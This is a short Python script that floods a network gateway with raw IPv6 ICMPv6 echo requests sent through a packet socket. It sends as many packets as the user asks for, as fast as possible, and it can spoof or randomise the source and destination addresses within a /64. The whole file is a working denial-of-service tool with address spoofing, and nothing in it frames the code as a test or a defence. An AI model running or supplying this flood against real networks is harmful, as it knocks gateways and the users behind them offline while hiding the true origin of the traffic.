"""Program: hand a gateway very many echo requests over IPv6, from or to invented addresses.

    flood.py LINK MAC SOURCE DESTINATION GATEWAY-MAC COUNT

Of a source or destination that is a /64 each request has another address, at random. Runs on any
Python 3 without packages.
"""

import os
import socket
import struct
import sys


def request(source: bytes, destination: bytes) -> bytes:
    """Return an IPv6 packet with an echo request."""
    echo = struct.pack("!BBHHH", 128, 0, 0, 7, 1)
    pseudo = source + destination + struct.pack("!II", len(echo), socket.IPPROTO_ICMPV6)
    total = sum(struct.unpack(f"!{(len(pseudo) + len(echo)) // 2}H", pseudo + echo))
    total = (total & 0xFFFF) + (total >> 16)
    total = ~(total + (total >> 16)) & 0xFFFF
    head = struct.pack("!IHBB", 6 << 28, len(echo), socket.IPPROTO_ICMPV6, 64)
    return head + source + destination + echo[:2] + struct.pack("!H", total) + echo[4:]


def one_of(place: str) -> bytes:
    """Return the address that is named, or any of the /64."""
    address, _, prefix = place.partition("/")
    known = socket.inet_pton(socket.AF_INET6, address)
    return known[:8] + os.urandom(8) if prefix else known


def main(link: str, mac: str, source: str, destination: str, gateway_mac: str, count: str) -> None:
    """Send them as fast as they go."""
    macs = bytes.fromhex(gateway_mac.replace(":", "")) + bytes.fromhex(mac.replace(":", ""))
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
        wire.bind((link, 0))
        for _ in range(int(count)):
            wire.send(macs + b"\x86\xdd" + request(one_of(source), one_of(destination)))


if __name__ == "__main__":
    main(*sys.argv[1:])
